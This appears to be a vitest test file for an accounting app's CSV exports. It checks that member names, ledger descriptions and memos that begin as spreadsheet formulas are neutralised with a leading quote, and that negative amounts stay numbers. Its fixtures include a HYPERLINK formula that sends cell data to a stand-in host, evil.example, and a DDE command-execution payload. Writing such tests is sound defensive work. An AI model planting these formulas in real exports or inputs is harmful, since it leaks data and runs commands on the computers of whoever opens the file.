import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { manualClock } from './clock.ts';
import {
  addMember,
  setUpCoop,
  startTestApp,
  type TestApp,
  type TestClient,
} from '../testing/testApp.ts';

const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

/** Every CSV the API writes, with text a member or an officer typed that starts a formula. */
describe('CSV exports and formulas', () => {
  let app: TestApp;
  let admin: TestClient;
  beforeAll(async () => {
    app = await startTestApp({}, { clock: manualClock('2026-06-15T12:00:00Z') });
    admin = await setUpCoop(app);
    await addMember(app, admin, {
      email: 'evil@example.org',
      name: formula,
      memberClass: 'hacker',
    });
    const entry = await admin.post('/api/ledger/entries', {
      effectiveOn: '2026-03-10',
      description: '@SUM(1+1)*cmd|"/C calc"!A0',
      postings: [
        { account: 'expenses:travel', amount: '12.50', memo: '+1+1' },
        { account: 'assets:bank:operating', amount: '-12.50', memo: '-2-2' },
      ],
    });
    expect(entry.status, JSON.stringify(entry.body)).toBe(201);
  });
  afterAll(() => app.stop());

  const rows = (text: string) => parse(text, { columns: true }) as Record<string, string>[];

  it('writes a member named as a formula into the event log as text', async () => {
    const csv = await admin.get<string>('/api/events/export?format=csv');
    const joined = rows(csv.body).filter((r) => r.actor_name?.includes('HYPERLINK'));
    expect(joined.length).toBeGreaterThan(0);
    for (const r of joined) expect(r.actor_name).toBe(`'${formula}`);
    expect(csv.body).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('neutralises descriptions and memos in the ledger export, and keeps amounts numbers', async () => {
    const csv = (await admin.get<string>('/api/ledger/export?format=csv')).body;
    const [travel, bank] = rows(csv);
    expect(travel).toMatchObject({
      description: `'@SUM(1+1)*cmd|"/C calc"!A0`,
      amount: '12.50',
      memo: "'+1+1",
    });
    expect(bank).toMatchObject({ amount: '-12.50', coop_amount: '-12.50', memo: "'-2-2" });
    expect(csv.split('\n')[2]).toContain(',-12.50,EUR,-12.50,EUR,');
  });

  it('keeps the reports’ negative figures numbers', async () => {
    const csv = await admin.get<string>(
      '/api/reports/income-statement?from=2026-01-01&to=2026-06-30&format=csv',
    );
    expect(rows(csv.body)).toContainEqual(
      expect.objectContaining({ account: 'Surplus', balance: '-1250' }),
    );
    expect(csv.body).toMatch(/^Surplus,-1250,/m);
  });
});
